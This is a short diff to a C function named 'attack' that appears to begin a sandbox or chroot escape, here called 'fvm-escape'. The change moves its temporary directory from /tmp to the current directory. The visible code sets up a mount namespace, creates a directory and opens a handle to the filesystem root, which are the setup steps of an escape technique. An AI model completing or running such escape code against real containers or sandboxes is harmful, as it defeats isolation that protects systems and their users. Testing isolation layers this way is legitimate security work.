@@ -4,7 +4,7 @@
 void attack(int n, char **word) {
     (void)n;
     (void)word;
-    char place[] = "/tmp/fvm-escape-XXXXXX";
+    char place[] = "./fvm-escape-XXXXXX";
     if (geteuid() != 0) take_namespaces(CLONE_NEWNS);
     TRY(mkdtemp(place) ? 0 : -1);
     int root = (int)TRY(open("/", O_RDONLY | O_DIRECTORY));
